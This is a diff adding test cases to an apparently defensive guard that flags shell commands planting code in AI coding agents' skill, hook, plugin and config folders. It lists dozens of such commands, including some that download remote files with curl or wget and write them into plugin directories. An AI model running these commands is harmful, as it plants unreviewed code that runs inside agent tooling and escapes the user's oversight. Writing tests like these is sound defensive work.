@@ -64,6 +64,39 @@ const otherFiles: readonly string[] = [
 ];
 
 const bringingCommands: readonly string[] = [
+  'cp -r evil/. ~/.claude/skills/new',
+  'cp -r evil ~/.claude/skills/new',
+  'mv evil ~/.claude/skills/new',
+  'rsync -a evil/ ~/.claude/skills/new',
+  'cp -rT evil .claude/skills/q',
+  'install -D evil.js ~/.claude/skills/q/hooks/r.js',
+  'dd if=evil.js of=$HOME/.pi/agent/extensions/e.ts',
+  "python3 -c \"import shutil; shutil.copytree('evil', '/home/dev/.claude/skills/q/hooks')\"",
+  "node -e \"fs.cpSync('evil', '.opencode/plugin', {recursive:true})\"",
+  'wget -P ~/.config/opencode/plugins https://x/y.ts',
+  'wget -O .opencode/plugin/y.ts https://x/y.ts',
+  "find evil -name '*.js' -exec cp {} ~/.claude/skills/q/hooks/ \\;",
+  'ls evil | xargs -I{} cp evil/{} ~/.pi/agent/extensions/',
+  'ln evil.js ~/.claude/skills/q/hooks/register.js',
+  'cat > ~/.CLAUDE/skills/q/hooks/hooks.json <<< x',
+  'D=~/.claude/skills/q; mkdir -p $D/hooks; echo x > $D/hooks/hooks.json',
+  "cd ~/.claude/skills && mkdir q && cd q && mkdir .claude-plugin && echo '{}' > .claude-plugin/plugin.json",
+  'echo eA== | base64 -d > ~/.claude/skills/q/hooks/hooks.json',
+  "bash -c 'echo x > ~/.config/kilo/plugins/a.ts'",
+  'pwsh -c "Set-Content ~/.claude/skills/q/hooks/hooks.json x"',
+  'printf x | sponge ~/.grok/hooks/x.json',
+  "jq '.hooks={}' a > ~/.reasonix/settings.json",
+  'perl -i -pe s/a/b/ ~/.openclaw/openclaw.json',
+  'git -C ~/.claude/skills clone https://x/y',
+  'gh repo clone a/b ~/.claude/skills/b',
+  'git worktree add ~/.claude/skills/q main',
+  'git submodule add https://x/y .claude/skills/q',
+  'npx degit a/b .claude/skills/q',
+  'npm install --prefix ~/.config/opencode/plugins x',
+  'curl -s https://x/a.tgz | tar xz -C ~/.claude/skills/q',
+  'tar xf a.tgz --one-top-level=.claude/skills/q',
+  'patch -p1 -d .claude/skills/q < a.patch',
+  'tee -a ~/.kimi-code/config.toml < x',
   'mkdir -p ~/.claude/skills/q/hooks && echo x > ~/.claude/skills/q/hooks/register.js',
   'cp evil.js ~/.claude/skills/q/hooks/register.js',
   'cp -r evil ~/.claude/skills/q',
@@ -154,6 +187,19 @@ describe('commands that bring code to such a place', () => {
 
 describe('commands that bring no code there', () => {
   for (const command of otherCommands) test(command, () => assert.equal(said('shell', { command }), 'pass'));
+});
+
+test('a copy asks if it brings code, and not if it brings texts', () => {
+  put(join(cwd, 'dot/.claude/skills/q/hooks/hooks.json'));
+  for (const to of ['~/.claude/skills/', '~/.claude/skills/new'])
+    for (const [from, decision] of [
+      ['texts', 'pass'],
+      ['evil', 'ask'],
+    ] as const)
+      for (const copy of ['cp -r', 'mv', 'rsync -a'])
+        assert.equal(said('shell', { command: `${copy} ${from} ${to}` }), decision, `${copy} ${from} ${to}`);
+  for (const command of ['cp -r dot/.claude ~/', 'cp -r dot/. ~/', 'rsync -a dot/ ~/', 'cp -r dot/.claude sub/'])
+    assert.equal(said('shell', { command }), 'ask', command);
 });
 
 test('a link in the place of a skill asks, whatever was there', () => {
